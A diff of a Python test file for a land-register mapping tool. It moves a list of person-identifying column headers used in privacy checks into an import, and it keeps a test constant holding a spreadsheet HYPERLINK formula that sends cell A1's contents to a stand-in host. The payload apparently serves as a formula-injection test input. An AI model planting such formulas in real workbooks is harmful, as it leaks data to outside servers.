@@ -18,6 +18,7 @@ import numpy as np
 import pandas as pd
 import pytest
 import shapely
+from _projects import HOSTILE_HEADERS
 from openpyxl import load_workbook
 
 from landmap.errors import PrivacyError
@@ -29,21 +30,6 @@ ROOT = Path(__file__).resolve().parent.parent
 LANDMAP = [sys.executable, "-m", "landmap.cli"]
 METRIC = "EPSG:32648"
 
-#: Headers a register may use for people, none of which the old name patterns recognised.
-HOSTILE_HEADERS = [
-    "household_head",
-    "land_owner",
-    "owner",
-    "spouse",
-    "witness_1",
-    "reported_by",
-    "village_chief",
-    "perpetrator",
-    "lawyer",
-    "nom",
-    "ម្ចាស់ដី",
-    "អ្នកផ្តល់ព័ត៌មាន",
-]
 FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
 
 
